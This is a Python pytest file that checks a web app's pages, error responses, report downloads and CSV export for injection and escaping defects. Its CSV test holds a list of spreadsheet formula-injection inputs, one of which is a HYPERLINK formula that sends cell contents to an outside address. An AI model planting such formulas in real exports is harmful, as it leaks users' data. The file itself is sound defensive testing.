"""Whatever people and documents say stays text: on every page, in every report, in every part of an address."""

import re
from collections.abc import Generator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from planted import MARK, PLANTED, Page, planted
from starlette.testclient import TestClient

from firmground.evaluate import files
from firmground.evaluate.cases import read_case
from firmground.web import pages
from firmground.web.served import Served

Site = tuple[TestClient, Served, dict[str, str]]
SHOWN = ("/answers/{id}", "/audits/{id}/{file}", "/brief", "/brief/print", "/brief/edit/{slug}", "/cases", "/cases/{id}",
         "/cases/{id}/edit",
         "/documents", "/documents/{id}",
         "/documents/{id}/purge",
         "/evaluations/{id}", "/evaluations/{id}/cases/{case}", "/ledger", "/releases", "/releases/{ref}", "/new-case",
         "/me",
         "/evaluations/{id}/{file}", "/diagnosis")  # fmt: skip
"""Where it is shown, so that what is looked at is not empty."""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Generator[Site]:
    with planted(tmp_path_factory.mktemp("planted") / "place") as made:
        yield made


def paths(router: Any) -> set[str]:
    found: set[str] = set()
    for route in router.routes:
        if hasattr(route, "original_router"):
            found |= paths(route.original_router)
        elif "GET" in route.methods:
            found.add(route.path)
    return found


ROUTES = sorted(paths(pages.router))


def looked_at(site: Site, route: str) -> Page | None:
    """The page of a route, with planted text also behind the question mark; None for what is no page."""
    client, _, places = site
    place = places.get(route, route)
    assert "{" not in place, "planted.py has no address for it"
    more = "&".join(
        f"{name}={quote(PLANTED)}"
        for name in ("q", "query", "status", "state", "kind", "what", "reason", "token", "next", "group", "cursor")
    )
    plain = client.get(place)
    assert plain.status_code < 500
    odd = client.get(f"{place}{'&' if '?' in place else '?'}{more}")
    assert odd.status_code < 500
    for answer in (plain, odd):
        if not answer.headers.get("content-type", "").startswith("text/html"):
            return None
        assert Page(answer.text).wrong == [] or "content-disposition" in answer.headers
    return Page(plain.text)


@pytest.mark.parametrize("route", ROUTES)
def test_no_page_makes_an_element_of_what_was_planted(site: Site, route: str):
    page = looked_at(site, route)
    if page is not None:
        assert [each for each in page.wrong if MARK in each or each.split()[-1].startswith("on")] == []
        assert page.planted > 0 or route not in SHOWN


def test_planted_text_is_where_it_was_planted(site: Site):
    assert [route for route in SHOWN if not (page := looked_at(site, route)) or not page.planted] == []


@pytest.mark.parametrize(
    "address",
    ["/nowhere/{}", "/answers/{}", "/documents/{}", "/cases/{}", "/releases/{}", "/audits/{}", "/people/of/{}", "/groups/of/{}"],
)
def test_an_address_of_nothing_is_told_as_text(site: Site, address: str):
    answer = site[0].get(address.format(quote(PLANTED)))
    assert answer.status_code in {400, 404}
    assert Page(answer.text).wrong == []


@pytest.mark.parametrize("file", ["report.md", "report.json"])
def test_reports_that_are_no_pages_are_not_read_as_such(site: Site, file: str):
    client, _, places = site
    answer = client.get(f"{places['/audits/{id}']}/{file}")
    assert answer.status_code == 200
    assert not answer.headers["content-type"].startswith("text/html")
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_cases_that_a_spreadsheet_would_calculate_are_words_there_and_come_back_as_they_were(tmp_path: Path):
    asked = ['=HYPERLINK("http://a.b/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "'=1", "\uff1d1", "plain", "'quoted'", "a=b"]
    cases = [read_case({"id": f"c{at}", "question": text, "notes": text}) for at, text in enumerate(asked)]
    told = files.written(cases, "csv")
    rows = [line for line in told.splitlines()[1:] if line]
    assert all(not re.match(r"[=+\-@\uff1d]", cell.strip('"')) for row in rows for cell in row.split(","))
    (tmp_path / "cases.csv").write_text(told)
    assert [each.case.question for each in files.read_file(tmp_path / "cases.csv") if isinstance(each, files.Placed)] == asked
